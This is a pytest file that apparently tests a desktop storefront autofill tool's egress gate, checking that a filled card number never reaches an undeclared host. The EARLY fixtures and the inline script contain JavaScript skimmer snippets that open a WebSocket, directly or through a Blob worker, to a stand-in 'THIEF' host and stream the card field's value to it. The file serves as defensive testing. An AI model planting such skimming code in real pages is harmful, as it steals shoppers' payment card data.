"""Once a secret is filled, no byte of the page reaches a host the merchant did not declare, by whatever way.

Each attack is tried against a host that is declared first: there it arrives. Bytes are counted by the egress
gate and by the attacker's server.
"""

import pytest

from bpc_desktop.storefront.filling.fill_report import FieldState
from tests.hostile.conftest import Scene
from tests.hostile.leaks import ELEMENTS, PLACES, REQUESTS, SHUT, WORKER, leaking
from tests.hostile.markup import payment_form

ROUNDS = 8
"""How often an attack is tried with the card in the page."""

NOTHING = (0, b"")


def prepare(scene: Scene, way: str) -> None:
    scene.put(payment_form() + leaking(way))
    scene.shop.pages["/worker.js"] = WORKER
    scene.shop.redirects["/away"] = f"http://{scene.thief.host}/redirected"


def control(scene: Scene, *, arrives: bool) -> None:
    """The same attack, with something else than a card, where the attacker's host is declared."""
    scene.admit(declared=True)
    assert scene.open()
    scene.wait(lambda: b"GET /mate" in scene.thief.heard)
    before = len(scene.thief.heard)
    scene.ask("setTimeout(() => leak('control'), 0)")
    if arrives:
        scene.wait(lambda: b"control" in scene.thief.heard[before:] or b"redirected" in scene.thief.heard)
    scene.admit(declared=False)


def attack(scene: Scene) -> tuple[int, bytes]:
    """Fill the card, and wait until the attack was tried often, on the page it was filled in.

    What reached the attacker: bytes as the gate counts them, and what the attacker heard.
    """
    assert scene.open()
    scene.wait(lambda: scene.thief.heard.count(b"GET /mate") >= 2 or scene.blocked > 0)
    sent, heard = scene.sent(), len(scene.thief.heard)
    report = scene.fill()
    assert {outcome.state for outcome in report.fields} == {FieldState.FILLED}
    scene.wait(lambda: f"GET /after?{ROUNDS}" in scene.shop.requests)
    assert scene.ask("document.querySelector('#number').value") == scene.card.number
    assert scene.page.url.partition("#")[0] == f"http://{scene.shop.host}/"
    return scene.sent() - sent, scene.thief.heard[heard:]


@pytest.mark.parametrize("way", [*REQUESTS, *ELEMENTS])
def test_no_request_carries_the_card_away(scene: Scene, way: str) -> None:
    prepare(scene, {**REQUESTS, **ELEMENTS}[way])
    control(scene, arrives=True)
    assert attack(scene) == NOTHING


@pytest.mark.parametrize("way", PLACES)
def test_no_navigation_carries_the_card_away(scene: Scene, way: str) -> None:
    prepare(scene, PLACES[way])
    control(scene, arrives=True)
    assert attack(scene) == NOTHING


@pytest.mark.parametrize("way", SHUT)
def test_ways_that_are_always_shut_stay_shut(scene: Scene, way: str) -> None:
    prepare(scene, SHUT[way])
    control(scene, arrives=False)
    assert attack(scene) == NOTHING
    assert b"control" not in scene.thief.heard


EARLY = {
    "page": "line = new WebSocket('ws://THIEF/early'); line.onopen = opened",
    "worker": """const code = `const line = new WebSocket('ws://THIEF/early');
        line.onopen = () => postMessage(0); onmessage = (event) => line.send(event.data)`;
        const worker = new Worker(URL.createObjectURL(new Blob([code])));
        worker.onmessage = opened; line = {send: (text) => worker.postMessage(text)}""",
}


@pytest.mark.parametrize("opener", EARLY)
def test_a_line_opened_before_the_card_is_cut(scene: Scene, opener: str) -> None:
    """The control: before the card is filled the line carries."""
    scene.put(f"""{payment_form()}<script>let line, open = false;
        const opened = () => {{ open = true; }};
        {EARLY[opener]};
        let rounds = 0;
        document.addEventListener('input', () => setInterval(() => {{
          line.send(document.getElementById('number').value);
          rounds += 1;
          if (rounds < 12) fetch('/after?' + rounds);
        }}, 30), {{once: true}});</script>""")
    assert scene.open()
    scene.until("open")
    heard = len(scene.thief.heard)
    scene.ask("line.send('control')")
    scene.wait(lambda: len(scene.thief.heard) > heard)
    heard = len(scene.thief.heard)
    scene.fill()
    scene.wait(lambda: f"GET /after?{ROUNDS}" in scene.shop.requests)
    assert scene.thief.heard[heard:] == b""
